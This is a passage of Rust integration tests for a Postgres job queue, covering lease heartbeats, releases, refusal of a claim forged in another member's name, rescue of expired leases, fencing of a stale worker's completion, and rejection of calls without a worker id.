        let hold = Hold {
            run_id: id,
            attempt: 1,
        };
        assert_eq!(dev.heartbeat("dev-w", &[hold], LEASE).await?.len(), 1);
        assert_eq!(
            dev.complete_run("dev-w", id, 0, None).await?.status,
            RunStatus::Succeeded
        );
        // Release gives the run and its attempt back.
        let id = enqueue(&dev, "build").await?;
        hold_running(&dev, "dev-w", id).await?;
        assert_eq!(
            dev.release_runs("dev-w", &[hold_of(id, 1)]).await?,
            vec![id]
        );
        let released = h.ops.run(id).await?;
        assert_eq!((released.status, released.attempt), (RunStatus::Queued, 0));
        assert_eq!(
            h.scalar_text(&format!(
                "SELECT coalesce(claimed_by, 'nobody') FROM ops.runs WHERE id = {id}"
            ))
            .await,
            "nobody"
        );

        // Plain SQL works for the holder too, claim included (in its own name).
        let mut conn = connect(h, &t.dev).await?;
        for sql in [
            format!(
                "UPDATE ops.runs SET status = 'claimed', attempt = attempt + 1, worker_id = 'psql-w',
                        claimed_by = ops.current_user_id(), claimed_at = now(),
                        lease_expires_at = now() + interval '5 minutes' WHERE id = {id}"
            ),
            format!("UPDATE ops.runs SET status = 'running', started_at = now() WHERE id = {id}"),
            format!("UPDATE ops.runs SET lease_expires_at = now() + interval '10 minutes' WHERE id = {id}"),
            format!(
                "UPDATE ops.runs SET status = 'succeeded', exit_code = 0, finished_at = now(),
                        lease_expires_at = NULL WHERE id = {id}"
            ),
        ] {
            conn.execute(sql.as_str()).await?;
        }
        assert_eq!(h.ops.run(id).await?.status, RunStatus::Succeeded);
        // A claim in someone else's name is no claim.
        let id = enqueue(&dev, "build").await?;
        let forged = refusal(
            &mut conn,
            &format!(
                "UPDATE ops.runs SET status = 'claimed', attempt = 1, worker_id = 'w', claimed_by = '{}' WHERE id = {id}",
                t.dev2
            ),
        )
        .await
        .ok_or("claimed in another member's name")?;
        assert!(forged.contains("permission denied"), "{forged}");

        // The developer's worker dies holding it; the other developer rescues the expired lease
        // and works it; the first worker's late completion is fenced off.
        hold_running(&dev, "dev-w", id).await?;
        h.raw(&format!(
            "UPDATE ops.runs SET lease_expires_at = now() - interval '1 minute' WHERE id = {id}"
        ))
        .await?;
        let dev2 = ops_as(h, &t.dev2).await?;
        assert_eq!(dev2.rescue_expired().await?.requeued, 1);
        let rescued = h.ops.run(id).await?;
        assert_eq!((rescued.status, rescued.attempt), (RunStatus::Queued, 1));
        hold_running(&dev2, "dev2-w", id).await?;
        assert!(
            dev.complete_runs("dev-w", &[done(id, 1)]).await?.is_empty(),
            "the worker that lost the run finished it"
        );
        assert_eq!(
            dev2.complete_runs("dev2-w", &[done(id, 2)]).await?,
            vec![id]
        );
        let events: Vec<String> = h
            .ops
            .run_detail(id)
            .await?
            .events
            .into_iter()
            .map(|e| e.actor)
            .collect();
        let mut expected = vec![t.dev.clone(); 3];
        expected.extend(vec![t.dev2.clone(); 4]);
        assert_eq!(
            events, expected,
            "created, claimed and started by dev; the rest by dev2"
        );
        Ok(())
    }

    fn hold_of(run_id: i64, attempt: i32) -> Hold {
        Hold { run_id, attempt }
    }

    fn done(run_id: i64, attempt: i32) -> Completion {
        Completion {
            hold: hold_of(run_id, attempt),
            exit_code: Some(0),
            error: None,
            canceled: false,
        }
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn the_queue_functions_refuse_a_missing_worker() -> TestResult {
        let Some(t) = team("the_queue_functions_refuse_a_missing_worker").await? else {
            return Ok(());
        };
        let h = &t.h;
        let id = enqueue(&h.ops, "build").await?;
        hold_running(&h.ops, "w", id).await?;
        let queued = enqueue(&h.ops, "build").await?;
        for sql in [
            format!("SELECT ops.complete_workflow_run({id}, 0)"),
            format!(
                "SELECT ops.complete_workflow_runs(NULL, ARRAY[{id}::bigint], ARRAY[NULL::int], ARRAY[0], ARRAY[NULL::text], ARRAY[false])"
            ),
            format!("SELECT ops.start_workflow_runs(NULL, ARRAY[{id}::bigint], ARRAY[NULL::int])"),
            format!("SELECT * FROM ops.heartbeat_runs(NULL, ARRAY[{id}::bigint], ARRAY[1], 60)"),
            format!("SELECT ops.release_runs('', ARRAY[{id}::bigint], ARRAY[1])"),
            "SELECT * FROM ops.claim_runs(NULL, NULL, 1, 60)".to_owned(),
            "SELECT ops.claim_next_run(NULL)".to_owned(),
        ] {
            let before = (
                row(h, "ops.runs", id).await,
                row(h, "ops.runs", queued).await,
            );
            let err = h
                .raw(&sql)
                .await
                .err()
                .ok_or(format!("went through: {sql}"))?;
            assert!(err.contains("a worker id is required"), "{sql}: {err}");
            let after = (
                row(h, "ops.runs", id).await,
                row(h, "ops.runs", queued).await,
            );
            assert_eq!(before, after, "{sql}");
        }
        Ok(())
    }
}
